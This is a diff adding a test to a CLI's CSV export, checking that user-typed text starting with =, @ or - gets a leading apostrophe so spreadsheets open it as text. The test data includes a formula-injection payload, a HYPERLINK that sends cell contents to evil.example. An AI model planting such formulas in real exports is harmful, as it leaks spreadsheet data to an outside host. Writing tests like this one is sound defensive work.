@@ -91,6 +91,29 @@ describe('stopgap export', () => {
     expect(JSON.parse(events[3]?.[5] ?? '')).toMatchObject({ patch: { reason: 'node replaced, "no" action', status: 'dismissed' } });
   });
 
+  it('writes text a spreadsheet would run as a formula with a leading apostrophe, so it opens as text', async () => {
+    const own = { STOPGAP_DB: join(dir, 'formulas.db') };
+    const db = openMigratedDb(own.STOPGAP_DB);
+    const ledger = new LedgerStore(db);
+    const now = new Date(Date.UTC(2026, 10, 3, 9));
+    const formula = '=HYPERLINK("https://evil.example/?"&A1,"open the runbook")';
+    const { change } = ledger.create({ description: formula, actor: 'U0EVE', source: 'command' }, { now, defaultDueDays: 7 });
+    ledger.act(change.id, { type: 'dismiss', reason: '@SUM(1+1)' }, { by: 'U0EVE', now, isAdmin: false });
+    ledger.create({ description: '-n shop scaled deploy/api to 4', actor: 'U0EVE', source: 'command' }, { now, defaultDueDays: 7 });
+    ledger.create({ description: 'scaled deploy/api to 4 = fine', actor: 'U0EVE', source: 'command' }, { now, defaultDueDays: 7 });
+    db.close();
+    const r = await runBuiltCliAsync(['export', '--format', 'csv'], own);
+    expect(r.code).toBe(0);
+    const [header, ...rows] = parseCsv(r.stdout);
+    const col = (row: string[] | undefined, name: string) => row?.[header?.indexOf(name) ?? -1];
+    expect(rows.map((row) => col(row, 'description'))).toEqual([`'${formula}`, "'-n shop scaled deploy/api to 4", 'scaled deploy/api to 4 = fine']);
+    expect(col(rows[0], 'reason')).toBe("'@SUM(1+1)");
+    // Numbers and the JSON of events are not text a person typed: they stay as they are.
+    expect([col(rows[0], 'key'), col(rows[0], 'verified')]).toEqual(['SG-1', 'false']);
+    const events = parseCsv((await runBuiltCliAsync(['export', '--format', 'csv', '--table', 'events'], own)).stdout);
+    expect(JSON.parse(events[1]?.[5] ?? '')).toMatchObject({ patch: { description: formula } });
+  });
+
   it('writes JSON with changes and events, --since keeping what moved since then, to --out owner-only', async () => {
     const out = join(dir, 'since.json');
     const r = await runBuiltCliAsync(['export', '--format', 'json', '--since', '2026-11-05', '--out', out], env);
